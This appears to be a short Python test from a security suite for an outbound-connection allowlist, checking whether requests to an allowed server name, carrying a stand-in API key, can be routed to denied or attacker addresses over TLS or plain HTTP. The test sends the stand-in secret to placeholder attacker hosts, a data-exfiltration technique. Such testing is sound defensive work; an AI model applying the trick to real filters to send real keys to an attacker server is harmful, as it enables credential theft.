# SPDX-License-Identifier: Apache-2.0
# Trick: an allowed server name, and the stand-in of a secret, at the address of a denied
#	host
# Gain: the attacker's own server under the good name
from trick import *

look_up("key.example.com")
outs = []
for name in ("api.example.com", "key.example.com"):
    data = request(name, headers=["x-api-key: " + SENTINEL])
    for addr in (EVIL, EVIL6, "10.0.0.5", HOST, BADCERT):
        outs.append((f"{name} at {addr}", over_tls(addr, name, data, 0.3)))
        outs.append((f"{name} at {addr}, clear", talk(addr, 80, data, 0.1)))
any_answer("at another address", outs)
